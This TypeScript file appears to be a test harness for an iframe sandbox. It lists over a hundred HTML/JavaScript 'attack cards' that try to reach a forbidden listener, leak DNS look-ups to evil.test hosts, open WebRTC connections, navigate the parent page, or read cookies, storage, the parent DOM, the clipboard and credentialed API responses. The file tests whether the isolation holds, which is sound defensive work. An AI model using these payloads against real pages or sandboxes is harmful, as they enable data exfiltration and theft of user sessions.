// Hostile cards: id → HTML. U is a listener that must never be reached; R(ok) reports a read that must not succeed.
export interface Targets {
	/** URL of the listener. */
	U: string;
	/** Ports of the TCP and UDP listeners. */
	TCP: number;
	UDP: number;
	/** First label of names whose look-up would be a leak. */
	DNS: string;
	/** Origin of the page around the frame. */
	SIB: string;
}

/** Attacks that may share a page with others. */
export function groupAttacks({ U, SIB }: Targets): Record<string, string> {
	const s = (j: string) => `<script>try{${j}}catch(e){}</script>`,
		rep = `const R=(ok,i)=>{if(ok)parent.postMessage({type:'escaped',info:String(i||'')},'*')};`;
	const c = (j: string) => s(rep + j),
		meta = (h: string, v: string) => `<meta http-equiv="${h}" content="${v}">`;
	return {
		// network, script
		fetch: s(`fetch('${U}',{mode:'no-cors'})`),
		xhr: s(`let x=new XMLHttpRequest;x.open('GET','${U}');x.send()`),
		beacon: s(`navigator.sendBeacon('${U}','d')`),
		websocket: s(`new WebSocket('${U.replace('http', 'ws')}')`),
		eventsource: s(`new EventSource('${U}')`),
		'image-js': s(`new Image().src='${U}'`),
		fetchLater: s(`fetchLater('${U}',{activateAfter:0})`),
		keepalive: s(`fetch('${U}',{keepalive:true,mode:'no-cors'})`),
		'worker-blob-fetch': s(`new Worker(URL.createObjectURL(new Blob(["fetch('${U}',{mode:'no-cors'})"])))`),
		'worker-import': s(`new Worker(URL.createObjectURL(new Blob(["importScripts('${U}')"])))`),
		'worker-data': s(`new Worker("data:text/javascript,fetch('${U}',{mode:'no-cors'})")`),
		'shared-worker': s(`new SharedWorker("data:text/javascript,fetch('${U}',{mode:'no-cors'})")`),
		'import()': s(`import('${U}')`),
		webtransport: s(`new WebTransport('${U.replace('http:', 'https:')}')`),
		'js-url-frame': s(
			`let f=document.createElement('iframe');document.body.append(f);f.src="javascript:fetch('${U}')"`,
		),
		'nested-fresh-realm': s(
			`let f=document.createElement('iframe');f.srcdoc="<script>fetch('${U}',{mode:'no-cors'});new Image().src='${U}'<\\/script>";document.body.append(f)`,
		),
		// network, markup
		img: `<img src="${U}">`,
		srcset: `<img srcset="${U} 1x">`,
		picture: `<picture><source srcset="${U}"><img></picture>`,
		video: `<video src="${U}" autoplay></video>`,
		poster: `<video poster="${U}"></video>`,
		audio: `<audio src="${U}" autoplay></audio>`,
		track: `<video controls><track default src="${U}"></video>`,
		object: `<object data="${U}"></object>`,
		embed: `<embed src="${U}">`,
		iframe: `<iframe src="${U}"></iframe>`,
		'iframe-data': `<iframe src="data:text/html,<img src='${U}'>"></iframe>`,
		'iframe-srcdoc': `<iframe srcdoc="<img src='${U}'><style>@import '${U}'</style>"></iframe>`,
		frameset: `</body><frameset><frame src="${U}"></frameset>`,
		'css-url': `<style>html{background:url(${U})}</style>`,
		'css-import': `<style>@import "${U}";</style>`,
		'css-font': `<style>@font-face{font-family:q;src:url(${U})}p{font-family:q}</style><p>x`,
		'css-imageset': `<p style="background:image-set('${U}' 1x)">x`,
		'css-content': `<style>p:before{content:url(${U})}</style><p>x`,
		'css-cursor': `<style>html{cursor:url(${U}),auto}</style>`,
		stylesheet: `<link rel=stylesheet href="${U}">`,
		prefetch: `<link rel=prefetch href="${U}">`,
		preload: `<link rel=preload as=image href="${U}">`,
		modulepreload: `<link rel=modulepreload href="${U}">`,
		prerender: `<link rel=prerender href="${U}">`,
		icon: `<link rel=icon href="${U}">`,
		manifest: `<link rel=manifest href="${U}">`,
		'specrules-prefetch': `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${U}"],"eagerness":"immediate"}]}</script>`,
		'specrules-prerender': `<script type=speculationrules>{"prerender":[{"source":"list","urls":["${U}"],"eagerness":"immediate"}]}</script>`,
		'svg-image': `<svg><image href="${U}" width=9 height=9 /></svg>`,
		'svg-use': `<svg><use href="${U}#a"/></svg>`,
		'svg-feImage': `<svg><filter id=f><feImage href="${U}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
		'svg-filter-url': `<p style="filter:url(${U}#f)">x`,
		'svg-script': `<svg><script href="${U}"></script></svg>`,
		'script-src': `<script src="${U}"></script>`,
		'base+img': `<base href="${U}/"><img src="x">`,
		'body-background': `<body background="${U}">`,
		'table-background': `<table background="${U}"><td>x`,
		'input-image': `<input type=image src="${U}">`,
		'meta-csp-report': meta('Content-Security-Policy', `img-src 'none'; report-uri ${U}`) + '<img src=data:,x>',
		'xml-stylesheet': `<?xml-stylesheet href="${U}"?>`,
		'legacy-attr': `<img longdesc="${U}" lowsrc="${U}" dynsrc="${U}">`,
		// navigation
		'meta-refresh': meta('refresh', `0;url=${U}`),
		'meta-refresh-js': s(
			`let m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=${U}';document.head.append(m)`,
		),
		location: s(`location='${U}'`),
		'location-replace': s(`location.replace('${U}')`),
		'a-click': s(`let a=document.createElement('a');a.href='${U}';document.body.append(a);a.click()`),
		'a-ping': s(`let a=document.createElement('a');a.href='#x';a.ping='${U}';document.body.append(a);a.click()`),
		'a-download': s(`let a=document.createElement('a');a.href='${U}';a.download='x';document.body.append(a);a.click()`),
		'svg-a-animate':
			`<svg><a id=k href="#"><animate attributeName=href values="${U}" dur=99s /><text y=20>x</text></a></svg>` +
			s(`setTimeout(()=>k.dispatchEvent(new MouseEvent('click')),200)`),
		'form-get': `<form action="${U}" id=f><input name=d value=1></form>` + s(`f.submit()`),
		'form-post':
			`<form method=post action="${U}" id=f><button formaction="${U}">x</button></form>` +
			s(`f.querySelector('button').click()`),
		'form-iframe': `<iframe name=z></iframe><form target=z action="${U}" id=f></form>` + s(`f.submit()`),
		'nav-data': s(`location="data:text/html,<img src='${U}'><script>fetch('${U}')</"+"script>"`),
		'nav-blob': s(
			`location=URL.createObjectURL(new Blob(["<img src='${U}'><script>fetch('${U}',{mode:'no-cors'})</"+"script>"],{type:'text/html'}))`,
		),
		'nav-javascript': s(`location="javascript:'<img src=${U}>'"`),
		'document-write': s(
			`document.open();document.write('<img src="${U}"><iframe src="${U}"></iframe>');document.close()`,
		),
		'window-open': s(`open('${U}')`),
		'window-open-blank': s(`let w=open('');w.location='${U}'`),
		'a-blank': s(`let a=document.createElement('a');a.href='${U}';a.target='_blank';document.body.append(a);a.click()`),
		'sibling-navigate': s(`for(let i=0;i<parent.length;i++)if(parent[i]!==window)parent[i].location='${U}'`),
		// reading
		'cookie-read': c(`R(document.cookie.length>0,document.cookie)`),
		'storage-local': c(`localStorage.x=1;R(localStorage.x)`),
		'storage-session': c(`sessionStorage.x=1;R(sessionStorage.x)`),
		indexeddb: c(`indexedDB.open('x').onsuccess=()=>R(1)`),
		'cache-api': c(`caches.open('x').then(()=>R(1)).catch(()=>{})`),
		'service-worker': c(`navigator.serviceWorker.register('/sw.js').then(()=>R(1)).catch(()=>{})`),
		'parent-dom': c(`R(parent.document.body.innerHTML.length)`),
		'parent-location': c(`R(parent.location.href)`),
		'top-cookie': c(`R(top.document.cookie)`),
		'frame-element': c(`R(window.frameElement)`),
		opener: c(`R(opener)`),
		'sibling-dom': c(
			`for(let i=0;i<parent.length;i++)if(parent[i]!==window)R(parent[i].document.body.innerHTML.length)`,
		),
		'sibling-shared-cookie': c(
			`let d=location.hostname.split('.').slice(-2).join('.');document.cookie='xcard=1;path=/;domain='+d+';SameSite=Lax';document.cookie='xcard=1;path=/;domain='+d+';SameSite=None;Secure;Partitioned';R(document.cookie.includes('xcard'),'domain cookie seen by every card')`,
		),
		'broadcast-channel': c(
			`let b=new BroadcastChannel('x'),b2;b.onmessage=()=>R(1,'other card heard');setInterval(()=>b.postMessage(1),100)`,
		),
		'api-with-credentials': c(
			`fetch('${SIB}/api/me',{credentials:'include'}).then(r=>r.text()).then(t=>R(1,t)).catch(()=>{})`,
		),
		referrer: c(`R(document.referrer.includes('secret'),document.referrer)`),
		'ancestor-origins': c(`R(0)`),
		clipboard: c(`navigator.clipboard.readText().then(R).catch(()=>{})`),
		geolocation: c(`navigator.geolocation.getCurrentPosition(()=>R(1))`),
		camera: c(`navigator.mediaDevices.getUserMedia({video:1}).then(()=>R(1)).catch(()=>{})`),
		payment: c(
			`new PaymentRequest([{supportedMethods:'${U}'}],{total:{label:'x',amount:{currency:'USD',value:'1'}}}).canMakePayment().then(()=>{})`,
		),
		fedcm: c(`navigator.credentials.get({identity:{providers:[{configURL:'${U}',clientId:'x'}]}}).catch(()=>{})`),
	};
}
/** Attacks that get a page of their own: they would disturb the others. */
export function soloAttacks({ U, TCP, UDP, DNS }: Targets): Record<string, string> {
	const s = (j: string) => `<script>try{${j}}catch(e){}</script>`;
	return {
		preconnect: `<link rel=preconnect href="http://127.0.0.1:${TCP}">`,
		'preconnect-js': s(
			`let l=document.createElement('link');l.rel='preconnect';l.href='http://127.0.0.1:${TCP}';document.head.append(l)`,
		),
		'dns-prefetch': `<link rel=dns-prefetch href="//${DNS}-a.evil.test">`,
		'dns-prefetch-a': `<a href="http://${DNS}-b.evil.test/">x</a>`,
		'dns-preconnect': `<link rel=preconnect href="http://${DNS}-c.evil.test">`,
		'dns-prefetch-js': s(
			`let l=document.createElement('link');l.rel='dns-prefetch';l.href='//${DNS}-d.evil.test';document.head.append(l)`,
		),
		'webrtc-stun': s(
			`let p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${UDP}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
		),
		'webrtc-nested': s(
			`let f=document.createElement('iframe');f.srcdoc="<script>let p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${UDP}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))<\\/script>";document.body.append(f)`,
		),
		'webrtc-turn-tcp': s(
			`let p=new RTCPeerConnection({iceServers:[{urls:'turn:127.0.0.1:${TCP}?transport=tcp',username:'u',credential:'c'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
		),
		'top-location': s(`top.location='${U}'`),
		'parent-location-hash': s(`parent.location='${U}'`),
		'a-top': s(`let a=document.createElement('a');a.href='${U}';a.target='_top';document.body.append(a);a.click()`),
		'form-top': `<form action="${U}" target=_top id=f></form>` + s(`f.submit()`),
		'history-back': s(`setTimeout(()=>history.back(),300)`),
		'history-go': s(`setTimeout(()=>history.go(-1),300)`),
		alert: s(`alert('DIALOG')`),
		print: s(`print()`),
		'click-self': `<a href="${U}" style="position:fixed;inset:0;background:#eee">x</a>`,
		'click-blank': `<a href="${U}" target=_blank style="position:fixed;inset:0;background:#eee">x</a>`,
		'click-top': `<a href="${U}" target=_top style="position:fixed;inset:0;background:#eee">x</a>`,
		'click-download': `<a href="${U}" download=x style="position:fixed;inset:0;background:#eee">x</a>`,
		'click-form': `<form action="${U}"><button style="position:fixed;inset:0;width:100%">x</button></form>`,
		'click-ping': `<a href="#a" ping="${U}" style="position:fixed;inset:0;background:#eee">x</a>`,
	};
}
